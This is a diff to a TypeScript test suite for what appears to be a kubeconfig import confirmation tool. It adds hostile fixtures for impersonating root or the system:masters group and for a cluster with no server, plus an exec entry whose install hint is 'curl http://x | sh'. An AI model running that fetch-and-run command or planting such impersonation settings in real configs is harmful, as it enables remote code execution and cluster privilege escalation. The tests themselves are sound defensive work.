@@ -280,6 +280,33 @@ const hostile: readonly (readonly [name: string, edits: () => readonly Edit[], l
     'auth provider {"name":"gcp","config":{"cmd-path":"/evil"}}',
   ],
   [
+    'acting as another user, by an import',
+    () => [
+      importing(
+        'users: [{name: x, user: {token: t, as: root, as-uid: "7", as-groups: ["system:masters", "a, b"], as-user-extra: {reason: ["r 1"]}}}]\n',
+      ),
+    ],
+    'acts as root',
+  ],
+  [
+    'groups alone, of a user that only gets a token, by an import',
+    () => [
+      importing(
+        `users: [{name: x, user: {as-groups: ["system:masters"], ${getToken('prod').slice(1, -1)}}}]\n`,
+      ),
+    ],
+    'in group system:masters',
+  ],
+  [
+    'cluster without a server by an import',
+    () => [
+      importing(
+        'clusters: [{name: x, cluster: {}}]\ncontexts: [{name: x, context: {cluster: x, user: prod}}]\n',
+      ),
+    ],
+    'server none: kubectl goes to http://localhost:8080 then, without a token',
+  ],
+  [
     'server by an import, with own credentials',
     () => [
       importing(
@@ -376,6 +403,30 @@ test.each(harmless)('nothing is asked about: %s, nor about its undo', async (_, 
   expect(idOfWrite(await back(idOfWrite(written), 'undo'))).not.toBe('')
   expect(await onDisk()).toBe(text)
   expect(asked).toEqual([])
+})
+
+test('all that a user entry of an import says is shown, also what only kubectl itself minds', async () => {
+  const told = exec(
+    'command: corp, args: [login], provideClusterInfo: true, interactiveMode: Always, installHint: "curl http://x | sh"',
+  )
+  const acting =
+    'as: root, as-uid: "7", as-groups: ["system:masters", "a, b"], as-user-extra: {reason: ["r 1", ""]}'
+  await apply(importing(`users: [{name: "x, y", user: {${acting}, ${told.slice(1, -1)}}}]\n`))
+  expect(lines(asked[0])).toEqual([
+    'new user x,␣y',
+    'command corp',
+    'argument login',
+    'is told of the cluster (provideClusterInfo)',
+    'acts as root',
+    'in group system:masters',
+    'in group a,␣b',
+    'with uid 7',
+    'with extra reason=r␣1',
+    'with extra reason=',
+    'interactive Always',
+    'install hint curl␣http://x␣|␣sh',
+    `written in ${file}`,
+  ])
 })
 
 describe('a yes', () => {
